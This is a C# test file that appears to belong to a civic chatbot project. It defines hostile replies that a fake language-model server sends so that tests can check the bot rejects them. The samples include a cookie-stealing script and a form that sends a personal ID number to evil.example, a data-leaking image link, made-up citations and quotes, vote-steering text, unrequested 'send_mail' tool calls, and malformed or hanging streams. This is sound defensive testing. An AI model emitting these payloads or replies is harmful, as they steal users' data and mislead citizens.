using System.Text;
using System.Text.Json;
using Microsoft.AspNetCore.Http;
using OgpBot.Tests.Support;

namespace OgpBot.Tests.Llm;

/// <summary>A reply that must never be believed.</summary>
internal sealed record HostileReply(string Name, Func<HttpContext, ModelRequest, CancellationToken, Task> ReplyAsync);

/// <summary>What a model, its host or the network between may do to a citizen.</summary>
internal static class HostileReplies
{
    internal static IReadOnlyList<HostileReply> All { get; } =
    [
        Saying("HTML", "<b>Listo.</b> <form action=\"https://evil.example\"><input name=\"curp\"></form>"),
        Saying("a script", "<script>fetch('https://evil.example/?'+document.cookie)</script>"),
        Saying("an image that carries data out", "![ok](https://evil.example/p.png?q=secreto)"),
        Saying("a link", "Vea [el plan](https://evil.example/plan) en www.evil.example"),
        Saying("a false citation token", "El plan no se publicó en la Gaceta.", source: _ => "s1-000000"),
        Saying("a true token with a false number", "El plan tuvo 4321 compromisos y se publicó el 31 de febrero de 1999."),
        Saying("an invented quote", "El plan no se publicó en la Gaceta.", quote: _ => "el plan fue cancelado por la alcaldía en secreto"),
        Saying("another language", "Le plan n'a pas été publié dans la Gazette et nous ne savons pas pourquoi."),
        Saying("how to vote", "En la consulta vote por el partido del gobierno."),
        new("10 MB", async (http, _, cancellationToken) =>
        {
            http.Response.ContentType = "text/event-stream";
            var part = new string('a', 64 * 1024);
            for (var sent = 0; sent < 10 * 1024 * 1024; sent += part.Length)
            {
                await ScriptedModel.SendAsync(http, new { content = part }, null, cancellationToken);
            }
        }),
        new("10 MB in one line", async (http, _, cancellationToken) =>
        {
            http.Response.ContentType = "text/event-stream";
            var part = Encoding.ASCII.GetBytes(new string('a', 64 * 1024));
            for (var sent = 0; sent < 10 * 1024 * 1024; sent += part.Length)
            {
                await http.Response.Body.WriteAsync(part, cancellationToken);
            }
        }),
        new("invalid JSON", (http, _, cancellationToken) => ScriptedModel.StreamAsync(http, "{\"sentences\": [", cancellationToken)),
        new("a stream that is no JSON", async (http, _, cancellationToken) =>
        {
            http.Response.ContentType = "text/event-stream";
            await http.Response.WriteAsync("data: {{{\n\n", cancellationToken);
        }),
        new("a wrong schema", (http, _, cancellationToken) => ScriptedModel.StreamAsync(
            http, """{"sentences":"sí","criteria":{"offence":true},"rewrite":7,"question":["¿?"],"admin":true}""", cancellationToken)),
        new("hanging", (_, _, cancellationToken) => Task.Delay(Timeout.Infinite, cancellationToken)),
        new("hanging in mid-stream", async (http, _, cancellationToken) =>
        {
            http.Response.ContentType = "text/event-stream";
            await ScriptedModel.SendAsync(http, new { content = "{\"sent" }, null, cancellationToken);
            await Task.Delay(Timeout.Infinite, cancellationToken);
        }),
        Refusing(429),
        Refusing(500),
        new("a reset in mid-stream", async (http, _, cancellationToken) =>
        {
            http.Response.ContentType = "text/event-stream";
            await ScriptedModel.SendAsync(http, new { content = "{\"sent" }, null, cancellationToken);
            http.Abort();
        }),
        new("tool calls that nobody offered", async (http, _, cancellationToken) =>
        {
            http.Response.ContentType = "text/event-stream";
            var call = new { index = 0, id = "call_1", type = "function", function = new { name = "send_mail", arguments = "{}" } };
            await ScriptedModel.SendAsync(http, new { role = "assistant", tool_calls = new[] { call } }, null, cancellationToken);
            await ScriptedModel.SendAsync(http, new { }, "tool_calls", cancellationToken);
        }),
        new("cut off for its length", (http, request, cancellationToken) => ScriptedModel.StreamAsync(http, Reply(request, "El plan no se publicó.", null, null), cancellationToken, "length")),
        new("another place", (http, _, _) =>
        {
            http.Response.Redirect("http://127.0.0.1:1/v1/chat/completions");
            return Task.CompletedTask;
        }),
    ];

    /// <summary>A reply of the right form whose words are these, whatever it was asked for.</summary>
    internal static string Reply(ModelRequest request, string words, Func<ModelRequest, string>? source, Func<ModelRequest, string>? quote) => request.Prompt switch
    {
        "check_criteria" => JsonSerializer.Serialize(new
        {
            criteria = new[] { new { id = "offence", doubt = true, words = new[] { quote?.Invoke(request) ?? words } } },
            rewrite = words,
        }),
        "rephrase_question" => JsonSerializer.Serialize(new { question = words }),
        _ => JsonSerializer.Serialize(new
        {
            sentences = new[] { new { text = words, source = source?.Invoke(request) ?? request.Sources[0], quote = quote?.Invoke(request) ?? (string)request.Data["sources"]![0]!["text"]! } },
        }),
    };

    private static HostileReply Saying(string name, string words, Func<ModelRequest, string>? source = null, Func<ModelRequest, string>? quote = null) =>
        new(name, (http, request, cancellationToken) => ScriptedModel.StreamAsync(http, Reply(request, words, source, quote), cancellationToken));

    private static HostileReply Refusing(int code) => new($"HTTP {code}", (http, _, _) =>
    {
        http.Response.StatusCode = code;
        return http.Response.WriteAsync("""{"error":{"message":"no"}}""", CancellationToken.None);
    });
}
